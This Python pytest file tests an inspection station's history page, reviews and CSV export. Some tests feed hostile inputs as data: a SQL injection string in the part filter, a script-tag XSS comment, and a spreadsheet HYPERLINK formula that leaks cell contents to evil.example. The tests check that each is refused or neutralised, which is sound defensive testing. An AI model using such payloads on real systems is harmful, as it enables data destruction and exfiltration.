"""History, detail, review and CSV export with the simulated user on a real SQLite history."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import threading
from contextlib import asynccontextmanager

import pytest
from sqlalchemy import func, select

from station.db.models import InspectionRow, ReviewRow
from station.db.queries import HistoryQueries
from tests.hmi.conftest import field_error, login, only, run_parts, simulated_hmi, wait_set
from tests.hmi.stand import make_station

pytestmark = pytest.mark.asyncio


def count(ctx, *where) -> int:
    with ctx.store.session() as s:
        return s.scalar(select(func.count()).select_from(InspectionRow).where(*where))


async def test_history_lists_and_filters(hmi):
    ctx, new_user = hmi
    run_parts(ctx.station, 10)
    user = await login(new_user(), "emil", "/history")
    await user.should_see("10 inspections match", retries=30)
    rejects = count(ctx, InspectionRow.outcome == "reject")
    assert 0 < rejects < 10  # the simulated camera makes about half the parts defective
    only(user, "f-verdict").value = "reject"
    user.find(marker="apply").click()
    await user.should_see(f"{rejects} inspections match", retries=30)
    table = only(user, "history-table")
    assert len(table.rows) == rejects and {r["verdict"] for r in table.rows} == {"REJECT"}
    only(user, "f-part").value = "3"
    user.find(marker="apply").click()
    expected = count(ctx, InspectionRow.outcome == "reject", InspectionRow.part_id == 3)
    await user.should_see(f"{expected} inspections match", retries=30)


async def test_rows_of_an_earlier_filter_never_replace_those_of_a_later_one(hmi, monkeypatch):
    """Apply clicked twice: the first filter's query is still running (a slow history) when the
    second's answers; the first, finishing last, must not put its rows under the second's filter."""
    ctx, new_user = hmi
    run_parts(ctx.station, 10)
    # the page module the HMI just mounted (NiceGUI's test reset re-imports the app's modules)
    from station.hmi.pages.history import HistoryView

    real = HistoryView._fetch
    started, release, finished = threading.Event(), threading.Event(), threading.Event()

    def first_held(view, flt, offset):
        if flt.verdict != "reject":
            return real(view, flt, offset)
        started.set()
        release.wait(20)
        try:
            return real(view, flt, offset)
        finally:
            finished.set()

    monkeypatch.setattr(HistoryView, "_fetch", first_held)
    passes = count(ctx, InspectionRow.outcome == "pass")
    assert 0 < passes < 10
    user = await login(new_user(), "emil", "/history")
    await user.should_see("10 inspections match", retries=30)
    only(user, "f-verdict").value = "reject"
    user.find(marker="apply").click()
    await wait_set(started)
    only(user, "f-verdict").value = "pass"
    user.find(marker="apply").click()
    await user.should_see(f"{passes} inspections match", retries=30)
    release.set()
    await wait_set(finished)
    await asyncio.sleep(0.3)  # the held query's coroutine resumes on the event loop after its thread returns
    assert only(user, "history-summary").text == f"{passes} inspections match"
    assert {r["verdict"] for r in only(user, "history-table").rows} == {"PASS"}


async def test_bad_filters_are_refused_on_the_field(hmi):
    ctx, new_user = hmi
    run_parts(ctx.station, 2)
    user = await login(new_user(), "emil", "/history")
    await user.should_see("2 inspections match", retries=30)
    only(user, "f-part").value = "12'; DROP TABLE inspections; --"
    user.find(marker="apply").click()
    await field_error(user, "f-part", "integer")
    only(user, "f-part").value = ""
    only(user, "f-since").value = "2026-13-45T99:00"
    user.find(marker="apply").click()
    await field_error(user, "f-since", "date/time")
    assert count(ctx) == 2  # nothing changed
    await user.should_see("2 inspections match")


async def test_paging(hmi):
    ctx, new_user = hmi
    run_parts(ctx.station, 55)
    user = await login(new_user(), "emil", "/history")
    await user.should_see("page 1 of 2", retries=30)
    assert len(only(user, "history-table").rows) == 50
    user.find(marker="next").click()
    await user.should_see("page 2 of 2", retries=30)
    rows = only(user, "history-table").rows
    assert len(rows) == 5 and {r["part"] for r in rows} == {1, 2, 3, 4, 5}  # newest first: the oldest five


async def test_detail_review_and_hostile_comment(hmi):
    ctx, new_user = hmi
    run_parts(ctx.station, 6)
    with ctx.store.session() as s:
        reject = s.scalars(select(InspectionRow).where(InspectionRow.outcome == "reject")).first()
        rid, reason, ndef = reject.id, reject.reason, reject.defect_count
    user = await login(new_user(), "emil", "/history")
    await user.should_see("6 inspections match", retries=30)
    user.find(marker="history-table").trigger("rowClick", [None, {"id": rid}, 0])
    await user.should_see(f"Reason: {reason}", retries=30)
    await user.should_see("REJECT", marker="detail-verdict")
    assert len(only(user, "defects").rows) == ndef
    # reject images are archived by the history writer and shown through the archive route
    imgs = HistoryQueries(ctx.engine).inspection(rid).images
    assert {i["kind"] for i in imgs} == {"raw", "overlay"}
    for img in imgs:
        await user.should_see(marker=f"image-{img['id']}")
    resp = await user.http_client.get(f"/hmi/archive/{imgs[0]['id']}")
    assert resp.status_code == 200 and resp.content[:8] == b"\x89PNG\r\n\x1a\n"

    # script in the comment: refused on the field, nothing stored
    only(user, "review-label").value = "wrong"
    only(user, "review-comment").value = "<script>alert(1)</script>"
    user.find(marker="save-review").click()
    await field_error(user, "review-comment", "not allowed")
    with ctx.store.session() as s:
        assert s.scalar(select(func.count()).select_from(ReviewRow)) == 0
    # a real review is stored and shown
    only(user, "review-comment").value = "scratch is a reflection of the fixture"
    user.find(marker="save-review").click()
    await user.should_see("emil: WRONG — scratch is a reflection of the fixture", retries=30)
    with ctx.store.session() as s:
        (row,) = s.scalars(select(ReviewRow)).all()
        assert (row.inspection_id, row.label, row.reviewer) == (rid, "wrong", "emil")


async def test_csv_export_carries_filtered_rows_and_reviews(hmi):
    ctx, new_user = hmi
    run_parts(ctx.station, 8)
    with ctx.store.session() as s:
        first = s.scalars(select(InspectionRow).order_by(InspectionRow.id)).first().id
    ctx.store.add_review(first, "confirmed", "checked at the line", "emil")
    user = await login(new_user(), "emil", "/history")
    await user.should_see("8 inspections match", retries=30)
    user.find(marker="export").click()
    response = await user.download.next(timeout=10)
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 8
    assert {int(r["id"]) for r in rows} == set(range(first, first + 8))
    by_id = {int(r["id"]): r for r in rows}
    assert by_id[first]["review_label"] == "confirmed" and by_id[first]["reviewer"] == "emil"
    assert all(by_id[i]["review_label"] == "" for i in by_id if i != first)
    assert {r["outcome"] for r in rows} <= {"pass", "reject"}


async def test_unknown_inspection(hmi):
    ctx, new_user = hmi
    user = await login(new_user(), "emil", "/inspection/999999")
    await user.should_see("No inspection 999999.")


async def test_csv_export_carries_a_formula_comment_as_text(hmi):
    """Issue 19: a review comment typed as a spreadsheet formula is exported as text."""
    ctx, new_user = hmi
    run_parts(ctx.station, 3)
    with ctx.store.session() as s:
        rid = s.scalars(select(InspectionRow).order_by(InspectionRow.id)).first().id
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
    user = await login(new_user(), "emil", "/history")
    await user.should_see("3 inspections match", retries=30)
    user.find(marker="history-table").trigger("rowClick", [None, {"id": rid}, 0])
    await user.should_see(marker="review-comment", retries=30)
    only(user, "review-label").value = "wrong"
    only(user, "review-comment").value = formula  # no markup: the form takes it as it is
    user.find(marker="save-review").click()
    await user.should_see(f"emil: WRONG — {formula}", retries=30)
    await user.open("/history")
    await user.should_see("3 inspections match", retries=30)
    user.find(marker="export").click()
    response = await user.download.next(timeout=10)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header = rows[0]
    comments = {int(r[0]): r[header.index("review_comment")] for r in rows[1:]}
    assert comments[rid] == "'" + formula  # shown as text by a spreadsheet, never run
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)  # only a number may start with a minus


async def test_csv_export_one_row_per_defect_in_local_time(hmi, monkeypatch):
    """Issue 22: the HMI's export for a spreadsheet: the station's local time with its UTC
    offset, no JSON cells, and (ticked) one row per defect, counted against the database."""
    monkeypatch.setenv("TZ", "Asia/Kolkata")  # the station's zone: +05:30, no clock change
    ctx, new_user = hmi
    run_parts(ctx.station, 10)
    with ctx.store.session() as s:
        parts = s.scalars(select(InspectionRow)).all()
        expected = {p.id: [d.class_name for d in p.defects] for p in parts}
        times = {p.id: p.triggered_at for p in parts}
    assert any(len(v) > 0 for v in expected.values()) and any(not v for v in expected.values())
    user = await login(new_user(), "emil", "/history")
    await user.should_see("10 inspections match", retries=30)
    only(user, "export-per-defect").value = True
    user.find(marker="export").click()
    response = await user.download.next(timeout=10)
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\n") == raw.count(b"\r\n")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == sum(max(1, len(v)) for v in expected.values())
    got: dict[int, list] = {}
    for r in rows:
        got.setdefault(int(r["id"]), []).extend([r["defect.class_name"]] if r["defect.class_name"] else [])
        t = dt.datetime.fromisoformat(r["triggered_at"])
        assert t == times[int(r["id"])] and r["triggered_at"].endswith("+05:30")
        assert not any(cell.startswith(("{", "[")) for cell in r.values())
    assert got == expected


@asynccontextmanager
async def engineer_on_history(tmp_path, parts: int, **sections):
    """A station of its own (``sections``: more station file sections) with ``parts`` inspected,
    and emil (engineer) on its history page; yields (ctx, user)."""
    station = make_station(tmp_path, history=True, **sections)
    station.start()
    try:
        async with simulated_hmi(station) as (ctx, new_user):
            ctx.auth.create_user("emil", "engineer", "engineer-pass-1", "test")
            run_parts(station, parts)
            user = await login(new_user(), "emil", "/history")
            await user.should_see(f"{parts} inspections match", retries=30)
            yield ctx, user
    finally:
        station.stop()


async def test_times_are_shown_and_read_in_the_stations_zone_not_the_machines(tmp_path, monkeypatch):
    """The history page shows stored times, and reads a From without offset, in the station
    file's [shifts] timezone (as the CSV and the shift report do), whatever the machine's zone."""
    import time
    import zoneinfo

    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    kolkata = zoneinfo.ZoneInfo("Asia/Kolkata")  # +05:30: a machine-time reading is 5.5 h off
    try:
        async with engineer_on_history(tmp_path, 6, shifts={"timezone": "Asia/Kolkata"}) as (ctx, user):
            with ctx.store.session() as s:
                times = {p.id: p.triggered_at for p in s.scalars(select(InspectionRow)).all()}
            shown = {r["id"]: r["time"] for r in only(user, "history-table").rows}
            assert shown == {i: t.astimezone(kolkata).strftime("%Y-%m-%d %H:%M:%S") for i, t in times.items()}
            oldest = min(times.values()).astimezone(kolkata).replace(microsecond=0)
            only(user, "f-until").value = oldest.strftime("%Y-%m-%dT%H:%M:%S")  # read as UTC: 5.5 h later, all 6
            user.find(marker="apply").click()
            await user.should_see("0 inspections match", retries=30)
            only(user, "f-until").value = ""
            only(user, "f-since").value = oldest.strftime("%Y-%m-%dT%H:%M:%S")  # read as UTC: none
            user.find(marker="apply").click()
            await user.should_see("6 inspections match", retries=30)
    finally:
        monkeypatch.undo()
        time.tzset()


async def test_csv_export_with_the_station_files_decimal_comma(tmp_path):
    """[export] decimal_separator = ",": the HMI's download is the semicolon form Excel reads in
    a decimal-comma locale, every row as wide as its header."""
    async with engineer_on_history(tmp_path, 6, export={"decimal_separator": ","}) as (ctx, user):
        user.find(marker="export").click()
        text = (await user.download.next(timeout=10)).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == 7 and len({len(r) for r in rows}) == 1 and "timings_ms.total" in rows[0]
    total = [r[rows[0].index("timings_ms.total")] for r in rows[1:]]
    assert all("." not in t for t in total) and any("," in t for t in total)
